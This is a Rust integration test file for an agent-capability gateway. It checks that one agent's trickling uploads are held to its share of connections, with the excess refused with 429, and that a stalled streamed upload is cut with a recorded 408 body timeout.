fn upload_manifest(agent: &str, upstream: SocketAddr) -> String {
    manifest(agent, upstream, POLICY, "").replace(
        "      - methods: [GET]\n        path: /v1/charges/**",
        "      - methods: [PUT]\n        path: /v1/files/**\n        action: files.upload\n      - methods: [GET]\n        path: /v1/charges/**",
    )
}

/// Reads what the peer sends until it closes the connection (or `within` passes): the bytes,
/// and whether it closed.
async fn read_until_closed(s: &mut TcpStream, within: Duration) -> (String, bool) {
    let mut out = Vec::new();
    let mut buf = [0u8; 4096];
    let until = Instant::now() + within;
    loop {
        match tokio::time::timeout(until.saturating_duration_since(Instant::now()), s.read(&mut buf)).await {
            Ok(Ok(0)) | Ok(Err(_)) => return (String::from_utf8_lossy(&out).into_owned(), true),
            Ok(Ok(n)) => out.extend_from_slice(&buf[..n]),
            Err(_) => return (String::from_utf8_lossy(&out).into_owned(), false),
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn one_agents_trickling_uploads_take_only_its_share_of_connections() {
    let up = Upstream::start().await;
    let gw = TestGateway::start(
        &[
            ("flood.yaml", upload_manifest("flood-agent", up.addr)),
            ("calm.yaml", upload_manifest("calm-agent", up.addr)),
        ],
        "limits:\n  max_connections: 100\n  body_read_timeout: 5s\n  header_read_timeout: 5s\n",
    )
    .await;
    assert_eq!(gw.in_flight_max(), 50, "the default is half of max_connections");
    let (flood_tok, calm_tok) = (token("flood-agent"), token("calm-agent"));

    // 100 uploads that announce 1 MB and send a byte at a time.
    let mut uploads = Vec::new();
    for i in 0..100 {
        let mut s = TcpStream::connect(gw.proxy).await.unwrap();
        let head = format!(
            "PUT /shop/v1/files/f{i} HTTP/1.1\r\nHost: shop.test\r\nx-uapk-capability: {flood_tok}\r\ncontent-length: 1000000\r\n\r\nx"
        );
        s.write_all(head.as_bytes()).await.unwrap();
        uploads.push(s);
    }
    // Those beyond the agent's share are answered 429 at once, recorded, and closed; the
    // others keep their connection (the upstream is still reading their bodies).
    let mut held = Vec::new();
    let mut refused = Vec::new();
    let watchers: Vec<_> = uploads
        .into_iter()
        .map(|mut s| {
            tokio::spawn(async move {
                let (resp, closed) = read_until_closed(&mut s, Duration::from_secs(3)).await;
                (s, resp, closed)
            })
        })
        .collect();
    for w in watchers {
        let (s, resp, closed) = w.await.unwrap();
        if resp.is_empty() && !closed {
            held.push(s);
        } else {
            assert!(closed, "a refused upload's connection is closed: {resp}");
            refused.push(resp);
        }
    }
    assert_eq!((held.len(), refused.len()), (50, 50));
    let entries = gw.entries();
    for resp in &refused {
        assert!(resp.starts_with("HTTP/1.1 429"), "{resp}");
        assert!(resp.to_ascii_lowercase().contains("connection: close"), "{resp}");
        assert!(resp.contains("too_many_requests_in_flight"), "{resp}");
        let idx = record_header(resp).expect("recorded");
        let e = entries.iter().find(|e| e["idx"] == idx.to_string().as_str()).unwrap();
        assert_eq!(
            (e["agent"].as_str(), e["reasons"][0]["code"].as_str()),
            (Some("flood-agent"), Some("too_many_requests_in_flight"))
        );
        // Refused as soon as the agent is known: before its connector strips the base path.
        assert!(e["path"].as_str().unwrap().starts_with("/shop/v1/files/f"), "{e}");
    }

    // While the 50 uploads trickle on, the other agent is served, and the flooding agent's
    // next request is refused the same way.
    let trickle = tokio::spawn(async move {
        for _ in 0..12 {
            for s in held.iter_mut() {
                let _ = s.write_all(b"x").await;
            }
            tokio::time::sleep(Duration::from_millis(250)).await;
        }
        held
    });
    let mut served = 0;
    while !trickle.is_finished() {
        let r = client()
            .put(gw.base("/shop/v1/files/calm"))
            .header("x-uapk-capability", &calm_tok)
            .body("calm upload")
            .timeout(Duration::from_secs(2))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 200, "the other agent is served");
        served += 1;
        let r = gw.get("/shop/v1/charges/ch_1", &flood_tok).await;
        assert_eq!(r.status(), 429);
        assert_eq!(r.headers()["connection"], "close");
        assert!(r.headers().get("x-uapk-record").is_some(), "recorded");
        let body: Value = r.json().await.unwrap();
        assert_eq!(body["error"]["code"], "too_many_requests_in_flight");
        tokio::time::sleep(Duration::from_millis(200)).await;
    }
    assert!(served >= 3, "{served}");
    assert_eq!(gw.in_flight_of("flood-agent"), 50);
    // The agent goes away: its slots come back.
    drop(trickle.await.unwrap());
    eventually("the agent's slots to come back", Duration::from_secs(5), async || {
        (gw.in_flight_of("flood-agent") == 0).then_some(())
    })
    .await;
    let r = gw.get("/shop/v1/charges/ch_1", &flood_tok).await;
    assert_eq!(r.status(), 200);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_streamed_upload_that_stalls_is_cut_and_its_outcome_says_body_timeout() {
    // A raw upstream that reports every byte it received once its peer closes.
    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let raw = listener.local_addr().unwrap();
    let (tx, mut rx) = tokio::sync::mpsc::unbounded_channel::<(Vec<u8>, Duration)>();
    tokio::spawn(async move {
        while let Ok((mut s, _)) = listener.accept().await {
            let tx = tx.clone();
            tokio::spawn(async move {
                let (mut got, mut buf, since) = (Vec::new(), [0u8; 4096], Instant::now());
                while let Ok(n) = s.read(&mut buf).await {
                    if n == 0 {
                        break;
                    }
                    got.extend_from_slice(&buf[..n]);
                }
                let _ = tx.send((got, since.elapsed()));
            });
        }
    });
    let gw = TestGateway::start(
        &[("up.yaml", upload_manifest("up-agent", raw))],
        "limits:\n  body_read_timeout: 1s\n  upstream_timeout: 30s\n",
    )
    .await;
    let tok = token("up-agent");
    let mut s = TcpStream::connect(gw.proxy).await.unwrap();
    let started = Instant::now();
    // Longer than limits.hash_before_forward, so streamed (a shorter body is read before the
    // decision, and a stall there is refused before anything leaves).
    s.write_all(
        format!(
            "PUT /shop/v1/files/big HTTP/1.1\r\nHost: shop.test\r\nx-uapk-capability: {tok}\r\ncontent-length: 100000\r\n\r\nhello"
        )
        .as_bytes(),
    )
    .await
    .unwrap();
    // Then nothing: cut after body_read_timeout.
    let (resp, closed) = read_until_closed(&mut s, Duration::from_secs(5)).await;
    let took = started.elapsed();
    assert!(resp.starts_with("HTTP/1.1 408"), "{resp}");
    assert!(resp.contains("\"body_timeout\""), "{resp}");
    assert!(closed, "the connection is closed");
    assert!(took >= Duration::from_millis(900) && took < Duration::from_secs(4), "cut after {took:?}");
    // The upstream request was aborted mid-body: headers and the five bytes, then the close.
    let (got, _) = tokio::time::timeout(Duration::from_secs(5), rx.recv()).await.unwrap().unwrap();
    let got = String::from_utf8_lossy(&got).into_owned();
    let (head, body) = got.split_once("\r\n\r\n").expect("the upstream saw the request head");
    assert!(head.to_ascii_lowercase().contains("content-length: 100000"), "{head}");
    assert_eq!(body, "hello", "the upstream saw an incomplete body");

    // The outcome entry says so.
    // (Written after the answer, without waiting for the commit.)
    let outcome = gw.outcome_of(record_header(&resp).expect("the decision's record")).await;
    assert_eq!(outcome["request_body_error"], "body_timeout");
    assert_eq!(outcome["status"], "408");
    assert_eq!(outcome["request_body_complete"], false);
    assert_eq!(outcome["request_body_len"], "5");
    assert!(outcome["error"].as_str().unwrap().contains("limits.body_read_timeout"), "{outcome}");
}
